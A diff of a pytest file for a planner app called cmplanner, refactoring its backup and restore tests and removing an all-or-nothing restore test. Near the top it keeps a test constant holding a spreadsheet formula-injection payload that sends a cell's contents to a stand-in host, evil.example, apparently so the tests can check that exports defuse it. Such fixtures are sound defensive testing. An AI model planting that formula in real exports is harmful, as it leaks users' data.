@@ -18,7 +18,7 @@ from cmplanner import checklists, demo, exports, reviews
 from cmplanner.exports import DataError
 from cmplanner.models import Platform, Strategy, WeekMetrics
 from cmplanner.reviews import Review
-from cmplanner.store import Store
+from cmplanner.store import REVIEWS, TICKS, Store, StoreError, backup
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -32,8 +32,9 @@ def store(data_dir: Path) -> Store:
 def workspace(store: Store) -> Store:
     """The demo workspace plus a review and a checklist tick."""
     bakery, _ = demo.write_demo(store, date(2026, 11, 22))
-    reviews.save_review(store, bakery.id, Review(kind="month", period="2026-10", decisions="Meer reels"))
-    checklists.set_tick(store, bakery.id, "day.messages", "2026-11-20", 1)
+    review = Review(kind="month", period="2026-10", decisions="Meer reels")
+    store.update(bakery.id, lambda edit: reviews.save(edit, review))
+    store.update(bakery.id, lambda edit: checklists.set_tick(edit, "day.messages", "2026-11-20", 1))
     return store
 
 
@@ -133,27 +134,34 @@ def files(store: Store) -> dict[str, bytes]:
 
 def test_backup_restore_round_trip_keeps_a_copy_of_what_it_replaces(workspace: Store) -> None:
     before = files(workspace)
-    backup = exports.backup_json(workspace)
+    saved = backup.export(workspace).payload()
     bakery, consultancy = sorted(workspace.list()[0], key=lambda s: s.name)
     workspace.rename(bakery.id, "Renamed")
-    reviews.save_review(workspace, bakery.id, Review(kind="month", period="2026-11", went_well="later"))
+    later = Review(kind="month", period="2026-11", went_well="later")
+    workspace.update(bakery.id, lambda edit: reviews.save(edit, later))
     changed = workspace.path(bakery.id).read_bytes()
     workspace.delete(consultancy.id)
     extra = workspace.create("Made after the backup")
 
-    result = exports.restore(workspace, backup)
+    result = backup.restore(workspace, saved)
 
     assert result.names == ["Bakkerij De Korenschoof", "Van Dijk Advies"]
     assert (result.replaced, result.added) == (1, 1)
     after = files(workspace)
-    for name, raw in before.items():
-        assert orjson.loads(after[name]) == orjson.loads(raw)  # every table, reviews and ticks included
+    for name, raw in before.items():  # every table, reviews and ticks included; a new version of the file
+        assert without_meta(orjson.loads(after[name])) == without_meta(orjson.loads(raw))
     assert workspace.get(extra.id).name == "Made after the backup"  # left as it was
     (copy,) = result.copies
     assert copy.parent == workspace.backups / bakery.id and copy.name.startswith("before-restore-")
     assert copy.read_bytes() == changed
-    assert reviews.load_reviews(workspace, bakery.id)[0].decisions == "Meer reels"
-    assert workspace.weeks(bakery.id) and checklists.load_ticks(workspace, bakery.id, date(2026, 11, 20))
+    assert workspace.rows(bakery.id, REVIEWS)[0].decisions == "Meer reels"
+    assert workspace.weeks(bakery.id) and checklists.ticks(
+        workspace.rows(bakery.id, TICKS), date(2026, 11, 20)
+    )
+
+
+def without_meta(tables: dict) -> dict:
+    return {name: docs for name, docs in tables.items() if name != "_meta"}
 
 
 def broken_backups(good: bytes) -> dict[str, bytes]:
@@ -172,54 +180,33 @@ def broken_backups(good: bytes) -> dict[str, bytes]:
         "has no list of strategies": b'{"hello": 1}',
         "newer cmplanner": orjson.dumps(newer),
         "holds no strategies": orjson.dumps({**document, "strategies": []}),
-        "Strategy 1 in the backup (Bakkerij De Korenschoof) is not valid: metrics 1: followers": orjson.dumps(
+        "Strategy 1 in the backup (Bakkerij De Korenschoof) is not valid: table metrics, record 1: followers": orjson.dumps(
             bad_metric
         ),
-        "Strategy 1 in the backup (Bakkerij De Korenschoof) is not valid: reviews 1: period: expected a month": orjson.dumps(
+        "Strategy 1 in the backup (Bakkerij De Korenschoof) is not valid: table reviews, record 1: period: expected a month": orjson.dumps(
             bad_review
         ),
-        "expected one strategy": orjson.dumps(no_strategy),
+        "the file holds no strategy": orjson.dumps(no_strategy),
         "twice": orjson.dumps(twice),
     }
 
 
 def test_restore_refuses_a_file_it_cannot_read_and_leaves_the_data_as_it_was(workspace: Store) -> None:
-    good = exports.backup_json(workspace)
+    good = backup.export(workspace).payload()
     bakery = workspace.list()[0][0]
     workspace.rename(bakery.id, "Changed since")
     before = files(workspace)
     for message, data in broken_backups(good).items():
-        with pytest.raises(DataError, match=re.escape(message)):
-            exports.restore(workspace, data)
+        with pytest.raises(StoreError, match=re.escape(message)):
+            backup.restore(workspace, data)
     assert files(workspace) == before
     assert not list(workspace.backups.glob("*/before-restore-*"))
 
 
-def test_restore_writes_all_or_nothing(workspace: Store, monkeypatch: pytest.MonkeyPatch) -> None:
-    backup = exports.backup_json(workspace)
-    for strategy in workspace.list()[0]:
-        workspace.rename(strategy.id, strategy.name + " (changed)")
-    before = files(workspace)
-    real = exports.write_atomic
-    calls: list[Path] = []
-
-    def failing(path: Path, payload: bytes) -> None:
-        if path.parent == workspace.strategies:
-            calls.append(path)
-            if len(calls) == 2:
-                raise OSError("disk full")
-        real(path, payload)
-
-    monkeypatch.setattr(exports, "write_atomic", failing)
-    with pytest.raises(OSError, match="disk full"):
-        exports.restore(workspace, backup)
-    assert files(workspace) == before  # the first file was put back
-
-
 def test_a_damaged_file_can_be_restored(workspace: Store) -> None:
-    backup = exports.backup_json(workspace)
+    saved = backup.export(workspace).payload()
     bakery = workspace.list()[0][0]
     path = workspace.path(bakery.id)
     path.write_bytes(path.read_bytes()[:50])
-    result = exports.restore(workspace, backup)
+    result = backup.restore(workspace, saved)
     assert result.replaced == 2 and workspace.get(bakery.id).name == bakery.name
